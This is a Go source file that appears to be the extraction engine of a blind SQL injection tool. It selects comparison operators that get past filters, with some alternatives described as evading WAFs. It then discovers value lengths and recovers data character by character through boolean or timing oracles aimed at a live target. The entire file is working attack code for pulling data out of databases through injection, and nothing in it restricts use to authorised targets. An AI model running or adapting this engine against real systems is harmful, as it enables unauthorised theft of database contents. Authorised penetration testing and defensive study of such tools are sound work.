// Package inference implements the oracle-driven character extraction core
// shared by the boolean-blind and time-based techniques: operator selection,
// length discovery, and per-character search under four interchangeable
// strategies.
package inference

import (
	"context"
	"fmt"
	"strconv"
	"strings"
)

// Strategy identifies a comparison-operator family used to phrase an
// extraction probe. Strategies are tried in descending priority order
// during operator selection; BinaryGT is fastest and tried first.
type Strategy int

const (
	BinaryGT Strategy = iota
	RangeExclusion
	SetMembership
	LinearEQ
)

// String renders a human-readable strategy name, used in progress output
// and session bookkeeping.
func (s Strategy) String() string {
	switch s {
	case BinaryGT:
		return "binary (>)"
	case RangeExclusion:
		return "NOT BETWEEN 0 AND"
	case SetMembership:
		return "IN (...)"
	case LinearEQ:
		return "linear (=)"
	default:
		return "unknown"
	}
}

// Oracle evaluates a fully-rendered boolean SQL condition against the live
// target and reports whether it holds true. Implementations own the
// transport round-trip and the true/false comparison (status, length,
// text-similarity, or timing) — the inference engine only ever sees a bool.
type Oracle func(ctx context.Context, condition string) (bool, error)

// operatorProbes lists, per strategy, a condition that is unconditionally
// true. probeOperator injects each in priority order against the oracle;
// the first strategy the oracle agrees with is selected.
var operatorProbes = []struct {
	strategy  Strategy
	condition string
}{
	{BinaryGT, "6590>6420"},
	{RangeExclusion, "6590 NOT BETWEEN 0 AND 6420"},
	{SetMembership, "(SELECT 45) IN (10,45,60)"},
	{LinearEQ, "09845=9845"},
}

// ProbeOperator implements step 2 of the inference engine: it tests the four
// comparison strategies by injecting a constant-true expression of each
// form and selects the first the oracle agrees with. If forced is non-nil,
// only that strategy is tried (the operator-probe phase is skipped in the
// sense that no fallback occurs). Returns ErrExtractionImpossible if every
// strategy is filtered.
func ProbeOperator(ctx context.Context, oracle Oracle, forced *Strategy) (Strategy, error) {
	probes := operatorProbes
	if forced != nil {
		for _, p := range operatorProbes {
			if p.strategy == *forced {
				probes = []struct {
					strategy  Strategy
					condition string
				}{p}
				break
			}
		}
	}

	for _, p := range probes {
		ok, err := oracle(ctx, p.condition)
		if err != nil {
			return 0, fmt.Errorf("operator probe %s: %w", p.strategy, err)
		}
		if ok {
			return p.strategy, nil
		}
	}

	return 0, ErrExtractionImpossible
}

// ErrExtractionImpossible is returned when every comparison-operator
// strategy is filtered by the target (WAF or syntax incompatibility).
var ErrExtractionImpossible = fmt.Errorf("all comparison operators appear filtered: extraction impossible")

// EqualityCondition renders a boolean SQL condition of the form
// "<expr>=<literal>" for a given ordinal value; it is the common shape every
// strategy below specializes by swapping the "=" operator. Implementations
// typically close over an ASCII/SUBSTRING expression bound to a query and
// position.
type EqualityCondition func(literal string) string

// replaceOperator swaps the first "=" in an equality condition for op,
// mirroring the textual substitution used to derive sibling strategies
// from a single equality template.
func replaceOperator(cond, op string) string {
	return strings.Replace(cond, "=", op, 1)
}

// ExtractCharBinaryGT performs ordinal binary search over [minOrd, maxOrd]
// using "expr > k" probes. At loop end lo-1 is the highest ordinal such
// that "expr > k" holds, so the character is chr(lo). When lo ends at or
// below minOrd the result is empty (zero), which signals extraction
// failure at this position.
func ExtractCharBinaryGT(ctx context.Context, oracle Oracle, eq EqualityCondition, minOrd, maxOrd int) (byte, int, error) {
	lo, hi := minOrd, maxOrd
	requests := 0
	for lo <= hi {
		mid := (lo + hi) / 2
		cond := replaceOperator(eq(strconv.Itoa(mid)), ">")
		ok, err := oracle(ctx, cond)
		if err != nil {
			return 0, requests, err
		}
		requests++
		if ok {
			lo = mid + 1
		} else {
			hi = mid - 1
		}
	}
	if lo <= minOrd {
		return 0, requests, nil
	}
	return byte(lo), requests, nil
}

// ExtractCharRangeExclusion is functionally identical to ExtractCharBinaryGT
// but phrases each probe as "expr NOT BETWEEN 0 AND k", which some WAFs do
// not recognise as a numeric comparison.
func ExtractCharRangeExclusion(ctx context.Context, oracle Oracle, eq EqualityCondition, minOrd, maxOrd int) (byte, int, error) {
	lo, hi := minOrd, maxOrd
	requests := 0
	for lo <= hi {
		mid := (lo + hi) / 2
		cond := replaceOperator(eq(strconv.Itoa(mid)), " NOT BETWEEN 0 AND ")
		ok, err := oracle(ctx, cond)
		if err != nil {
			return 0, requests, err
		}
		requests++
		if ok {
			lo = mid + 1
		} else {
			hi = mid - 1
		}
	}
	if lo <= minOrd {
		return 0, requests, nil
	}
	return byte(lo), requests, nil
}

// ExtractCharSetMembership bisects a candidate ordinal list using
// "expr IN (subset)" probes: each round halves the live candidate set,
// testing membership in the first half, until one candidate remains.
func ExtractCharSetMembership(ctx context.Context, oracle Oracle, eq EqualityCondition, minOrd, maxOrd int) (byte, int, error) {
	candidates := make([]int, 0, maxOrd-minOrd+1)
	for o := minOrd; o <= maxOrd; o++ {
		candidates = append(candidates, o)
	}
	requests := 0

	for len(candidates) > 1 {
		chunkSize := len(candidates) / 2
		if chunkSize == 0 {
			chunkSize = 1
		}
		chunk := candidates[:chunkSize]

		literals := make([]string, len(chunk))
		for i, c := range chunk {
			literals[i] = strconv.Itoa(c)
		}
		inList := "(" + strings.Join(literals, ",") + ")"
		cond := replaceOperator(eq(inList), " IN ")

		ok, err := oracle(ctx, cond)
		if err != nil {
			return 0, requests, err
		}
		requests++

		if ok {
			candidates = chunk
		} else {
			candidates = candidates[chunkSize:]
		}
	}

	if len(candidates) == 0 {
		return 0, requests, nil
	}
	return byte(candidates[0]), requests, nil
}

// DefaultLinearAlphabet is the heuristic scan order used by
// ExtractCharLinearEQ: whitespace/punctuation, digits, lowercase, then
// uppercase, matching the common distribution of characters in database
// identifiers and values.
const DefaultLinearAlphabet = " ._-@0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

// ExtractCharLinearEQ iterates a heuristic alphabet (falling back to the
// full ordinal range if the alphabet is exhausted) and accepts the first
// exact equality match. This trades extra probes on misses for a single
// probe on the common case.
func ExtractCharLinearEQ(ctx context.Context, oracle Oracle, eq EqualityCondition, minOrd, maxOrd int) (byte, int, error) {
	requests := 0

	for _, ch := range DefaultLinearAlphabet {
		if int(ch) < minOrd || int(ch) > maxOrd {
			continue
		}
		cond := eq(strconv.Itoa(int(ch)))
		ok, err := oracle(ctx, cond)
		if err != nil {
			return 0, requests, err
		}
		requests++
		if ok {
			return byte(ch), requests, nil
		}
	}

	for o := minOrd; o <= maxOrd; o++ {
		cond := eq(strconv.Itoa(o))
		ok, err := oracle(ctx, cond)
		if err != nil {
			return 0, requests, err
		}
		requests++
		if ok {
			return byte(o), requests, nil
		}
	}

	return 0, requests, nil
}

// ExtractChar dispatches to the extraction algorithm for strategy.
func ExtractChar(ctx context.Context, strategy Strategy, oracle Oracle, eq EqualityCondition, minOrd, maxOrd int) (byte, int, error) {
	switch strategy {
	case BinaryGT:
		return ExtractCharBinaryGT(ctx, oracle, eq, minOrd, maxOrd)
	case RangeExclusion:
		return ExtractCharRangeExclusion(ctx, oracle, eq, minOrd, maxOrd)
	case SetMembership:
		return ExtractCharSetMembership(ctx, oracle, eq, minOrd, maxOrd)
	case LinearEQ:
		return ExtractCharLinearEQ(ctx, oracle, eq, minOrd, maxOrd)
	default:
		return 0, 0, fmt.Errorf("unknown strategy %d", strategy)
	}
}

// ExtractLength discovers the length of a scalar expression. Length is a
// small non-negative integer, so the caller supplies the "lengthExpr > k"
// comparison directly and ExtractLength binary-searches [0, maxLength]
// with it.
func ExtractLength(ctx context.Context, oracle Oracle, lengthGreaterThan func(k int) string, maxLength int) (int, int, error) {
	lo, hi := 0, maxLength
	requests := 0
	for lo < hi {
		mid := (lo + hi + 1) / 2
		ok, err := oracle(ctx, lengthGreaterThan(mid-1))
		if err != nil {
			return 0, requests, err
		}
		requests++
		if ok {
			lo = mid
		} else {
			hi = mid - 1
		}
	}
	return lo, requests, nil
}
